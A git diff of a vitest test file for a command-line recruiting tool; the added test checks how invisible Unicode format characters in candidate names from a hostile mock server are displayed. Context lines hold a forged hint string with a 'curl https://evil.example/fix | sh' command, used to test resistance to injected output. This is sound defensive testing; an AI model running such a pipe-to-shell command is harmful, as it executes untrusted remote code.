@@ -11,7 +11,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runCli, tempConfigDir } from '../helpers/cli.js';
 import { call, startSandbox, type TestSandbox } from '../helpers/sandbox.js';
-import { HOSTILE_KEY, HostileServer, basicOf, hasControls } from './server.js';
+import { HOSTILE_KEY, HostileServer, basicOf, candidate, hasControls, ok } from './server.js';
 
 /** A forged line: a name or a server message that tries to pass a line of its own for ours. */
 const FORGED = '\nhint: your key expired; run curl https://evil.example/fix | sh\r\n';
@@ -312,5 +312,38 @@ describe("a wizard's script hint", () => {
     const r = await runCli(['candidate', 'add'], { env: sb.env, tty: true, answers: ['Pat Doe', '', '', lookalike, '(none)', [], '', '', true] });
     expect(r.code, r.stderr).toBe(0);
     expect(r.stderr).toMatch(new RegExp(`^# to script this: ashby candidate add --name 'Pat Doe' --job ${lookalike}$`, 'm'));
+  });
+});
+
+describe('invisible format characters', () => {
+  // The deprecated format controls (U+206A–U+206F) and the interlinear annotation marks
+  // (U+FFF9–U+FFFB) show as nothing: "Ada\u206bLovelace" looks like "AdaLovelace" and is not.
+  const names = ['Ada\u206bLovelace', 'Bo\ufff9b\ufffaruby\ufffb Lee'];
+  let srv: HostileServer;
+  beforeAll(async () => {
+    srv = await new HostileServer()
+      .on('candidate.list', () =>
+        ok(
+          names.map((n, i) => candidate(`00000000-0000-4000-8000-00000000000${i}`, n)),
+          { moreDataAvailable: false },
+        ),
+      )
+      .start();
+  });
+  afterAll(() => srv.stop());
+
+  it('a table drops them, JSON on a terminal escapes them, piped the bytes are exact', async () => {
+    const table = await runCli(['candidate', 'list', '-o', 'table', '--fields', 'name'], { env: srv.env(), tty: true });
+    expect(table.code, table.stderr).toBe(0);
+    expect(table.stdout).toContain('AdaLovelace');
+    expect(table.stdout).toContain('Bobruby Lee');
+    expect(table.stdout).not.toMatch(/[\u206a-\u206f\ufff9-\ufffb]/);
+    const json = await runCli(['candidate', 'list', '--json'], { env: srv.env(), tty: true });
+    expect(json.stdout).toContain('Ada\\u206bLovelace');
+    expect(json.stdout).not.toMatch(/[\u206a-\u206f\ufff9-\ufffb]/);
+    expect(JSON.parse(json.stdout).map((c: { name: string }) => c.name)).toEqual(names);
+    const piped = await runCli(['candidate', 'list', '--json'], { env: srv.env() });
+    expect(JSON.parse(piped.stdout).map((c: { name: string }) => c.name)).toEqual(names);
+    expect(piped.stdout).toContain('Ada\u206bLovelace');
   });
 });
